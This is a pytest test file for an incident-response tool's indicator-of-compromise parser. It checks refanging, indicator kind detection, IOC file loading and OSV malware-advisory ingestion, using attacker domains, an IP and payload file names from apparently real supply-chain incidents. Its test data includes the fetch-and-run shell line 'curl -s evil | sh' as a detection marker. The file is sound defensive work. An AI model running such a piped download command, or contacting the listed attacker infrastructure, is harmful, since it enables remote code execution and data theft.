"""IOC parsing, refanging, kind detection and the three sources (files, OSV records, --domain)."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from irbook.audit.logs.iocs import (
    Ioc,
    advisory_iocs,
    collect_iocs,
    detect_kind,
    domain_iocs,
    load_ioc_file,
    merge,
    parse_ioc,
    refang,
)
from irbook.errors import InvalidInputError, NotFoundError, UsageError
from shared import shared_data


@pytest.mark.parametrize(
    ("defanged", "plain"),
    [
        ("hxxp://sfrclak[.]com/6202033", "http://sfrclak.com/6202033"),
        ("hxxps://filev2[.]getsession[.]org/file", "https://filev2.getsession.org/file"),
        ("HXXPS://git-tanstack(.)com", "https://git-tanstack.com"),
        ("hxxp[:]//142[.]11[.]206[.]73/", "http://142.11.206.73/"),
        ("api[.]masscan[.]cloud", "api.masscan.cloud"),
        ("  seed1.getsession{.}org  ", "seed1.getsession.org"),
        ("hxxpsession is a word", "hxxpsession is a word"),  # no scheme follows: left alone
    ],
)
def test_refang(defanged: str, plain: str) -> None:
    assert refang(defanged) == plain


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        # The TanStack and axios incidents (reference/incidents.md).
        ("filev2.getsession.org", "domain", "filev2.getsession.org"),
        ("Git-TanStack.com", "domain", "git-tanstack.com"),
        ("api.masscan.cloud", "domain", "api.masscan.cloud"),
        ("*.getsession.org", "domain", "getsession.org"),
        ("sfrclak[.]com", "domain", "sfrclak.com"),
        ("142.11.206.73", "ipv4", "142.11.206.73"),
        ("2001:DB8:0:0::1", "ipv6", "2001:db8::1"),
        ("[2001:db8::1]", "ipv6", "2001:db8::1"),
        ("router_init.js", "filename", "router_init.js"),
        ("tanstack_runner.js", "filename", "tanstack_runner.js"),
        ("jquery.min.js", "filename", "jquery.min.js"),
        ("install.sh", "filename", "install.sh"),  # .sh is a TLD too: one dot means a file
        ("npm-stats.surge.sh", "domain", "npm-stats.surge.sh"),
        ("/tmp/inventory.txt", "filename", "/tmp/inventory.txt"),
        ("hxxps://Sfrclak.com/6202033#frag", "url", "https://sfrclak.com/6202033"),
        ("https://evil.com:8443/a?b=1", "url", "https://evil.com:8443/a?b=1"),
        ("A" * 64, "sha256", "a" * 64),
        ("@tanstack/setup", "marker", "@tanstack/setup"),
        ("s1ngularity-repository", "marker", "s1ngularity-repository"),
        (
            "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c",
            "marker",
            "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c",
        ),
        ("curl -s evil | sh", "marker", "curl -s evil | sh"),
    ],
)
def test_parse_detects_and_normalises(text: str, kind: str, value: str) -> None:
    ioc = parse_ioc(text, source="test")
    assert (ioc.kind, ioc.value, ioc.sources) == (kind, value, ("test",))


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("domain:surge.sh", "domain", "surge.sh"),
        ("marker:evil.com", "marker", "evil.com"),
        ("filename:evil.com", "filename", "evil.com"),
        ("ip:2001:db8::2", "ipv6", "2001:db8::2"),
        ("sha256:" + "b" * 64, "sha256", "b" * 64),
    ],
)
def test_kind_prefix_overrules_detection(text: str, kind: str, value: str) -> None:
    ioc = parse_ioc(text, source="test")
    assert (ioc.kind, ioc.value) == (kind, value)


@pytest.mark.parametrize("text", ["sha256:xyz", "domain:not a host", "url:hxxp://", "ip:1.2.3", ""])
def test_parse_rejects_invalid(text: str) -> None:
    with pytest.raises(ValueError):
        parse_ioc(text, source="test")


def test_detect_kind_of_plain_words_is_marker() -> None:
    assert detect_kind("prepare") == "marker"
    assert detect_kind("1.2.3") == "marker"


def test_ioc_file_comments_blank_lines_and_fragments(tmp_path: Path) -> None:
    path = tmp_path / "iocs.txt"
    path.write_text(
        "# TanStack, 2026-05-11\n"
        "\n"
        "filev2.getsession[.]org   # exfiltration over Session\n"
        "   router_init.js\n"
        "https://evil.example/page#top\n"
        "marker:repo#sha\n",
        encoding="utf-8",
    )
    iocs = load_ioc_file(path)
    assert [(i.kind, i.value) for i in iocs] == [
        ("domain", "filev2.getsession.org"),
        ("filename", "router_init.js"),
        ("url", "https://evil.example/page"),
        ("marker", "repo#sha"),
    ]
    assert iocs[0].sources == (f"{path}:3",)
    assert iocs[1].sources == (f"{path}:4",)


def test_ioc_file_reports_every_bad_line(tmp_path: Path) -> None:
    path = tmp_path / "iocs.txt"
    path.write_text("evil.com\nsha256:nothex\nok.example\n  ip:999.1.1.1\n", encoding="utf-8")
    with pytest.raises(InvalidInputError) as caught:
        load_ioc_file(path)
    message = caught.value.message
    assert f"{path}:2:1: 'nothex' is not a sha256 hash" in message
    assert f"{path}:4:3: " in message
    assert len(caught.value.problems) == 2


def test_ioc_file_binary_names_the_line(tmp_path: Path) -> None:
    path = tmp_path / "iocs.bin"
    path.write_bytes(b"evil.com\n\xff\xfe\x00junk\n")
    with pytest.raises(InvalidInputError, match=r"iocs.bin:2:1: not UTF-8 text"):
        load_ioc_file(path)


def test_ioc_file_missing(tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="IOC file not found"):
        load_ioc_file(tmp_path / "nope.txt")


def test_domain_values() -> None:
    iocs = domain_iocs(["seed1.getsession[.]org", "GIT-TANSTACK.COM."])
    assert [(i.kind, i.value, i.sources) for i in iocs] == [
        ("domain", "seed1.getsession.org", ("--domain",)),
        ("domain", "git-tanstack.com", ("--domain",)),
    ]
    with pytest.raises(UsageError, match=r"--domain '142\.11\.206\.73'"):
        domain_iocs(["142.11.206.73"])


def test_real_osv_records_carry_the_tanstack_domains() -> None:
    iocs = advisory_iocs([shared_data("osv")])
    by_value = {i.value: i for i in iocs}
    tanstack = {
        "git-tanstack.com",
        "filev2.getsession.org",
        "api.masscan.cloud",
        "seed1.getsession.org",
    }
    assert tanstack <= set(by_value)
    assert all(by_value[value].kind == "domain" for value in tanstack)
    # Other campaigns' records name whole URLs (a webhook.site exfiltration endpoint): kept as URLs.
    assert all(i.kind in ("domain", "url") for i in iocs)
    merged = {i.value: i for i in merge(iocs)}
    assert {"MAL-2026-3463", "MAL-2026-3465", "MAL-2026-3608"} <= set(
        merged["git-tanstack.com"].sources
    )


def _record(record_id: str, iocs: dict[str, list[str]], **extra: object) -> dict[str, object]:
    return {
        "id": record_id,
        "modified": "2026-05-12T00:00:00Z",
        "database_specific": {"iocs": iocs},
        **extra,
    }


def test_advisories_skip_withdrawn_and_staging_and_read_zips(tmp_path: Path) -> None:
    live = {
        "domains": ["live.example"],
        "ips": ["142.11.206.73"],
        "files": ["router_init.js"],
        "other": ["hxxp://x[.]example/a"],
    }
    records = {
        "MAL-2026-1.json": _record("MAL-2026-1", live),
        "MAL-2026-2.json": _record(
            "MAL-2026-2", {"domains": ["withdrawn.example"]}, withdrawn="2026-05-20T00:00:00Z"
        ),
        "MAL-0000-staging.json": _record("", {"domains": ["staging.example"]}),
        "no-iocs.json": {"id": "GHSA-xxxx", "modified": "2026-01-01T00:00:00Z"},
    }
    folder = tmp_path / "osv"
    folder.mkdir()
    dump = tmp_path / "all.zip"
    with zipfile.ZipFile(dump, "w") as archive:
        for name, record in records.items():
            (folder / name).write_text(json.dumps(record), encoding="utf-8")
            archive.writestr(name, json.dumps(record))
    expected = [
        ("domain", "live.example"),
        ("ipv4", "142.11.206.73"),
        ("filename", "router_init.js"),
        ("url", "http://x.example/a"),
    ]
    for source in (folder, dump):
        assert [(i.kind, i.value) for i in advisory_iocs([source])] == expected
        assert all(i.sources == ("MAL-2026-1",) for i in advisory_iocs([source]))


def test_advisories_bad_json_names_the_file(tmp_path: Path) -> None:
    path = tmp_path / "MAL-2026-9.json"
    path.write_text('{"id": "MAL-2026-9", "database_specific": {"iocs": {', encoding="utf-8")
    with pytest.raises(InvalidInputError, match=r"MAL-2026-9\.json:1:"):
        advisory_iocs([path])
    with pytest.raises(NotFoundError):
        advisory_iocs([tmp_path / "missing"])


def test_merge_keeps_every_source_once() -> None:
    merged = merge(
        [
            Ioc("domain", "evil.com", ("a",)),
            Ioc("domain", "evil.com", ("b", "a")),
            Ioc("marker", "evil.com", ("c",)),
        ]
    )
    assert merged == [Ioc("domain", "evil.com", ("a", "b")), Ioc("marker", "evil.com", ("c",))]


def test_collect_needs_at_least_one_indicator(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no indicators given"):
        collect_iocs()
    empty = tmp_path / "empty.txt"
    empty.write_text("# nothing yet\n", encoding="utf-8")
    with pytest.raises(UsageError, match="no indicators found in"):
        collect_iocs(ioc_files=[empty])
    both = collect_iocs(ioc_files=[empty], domains=["evil.com", "EVIL.com"])
    assert both == [Ioc("domain", "evil.com", ("--domain",))]
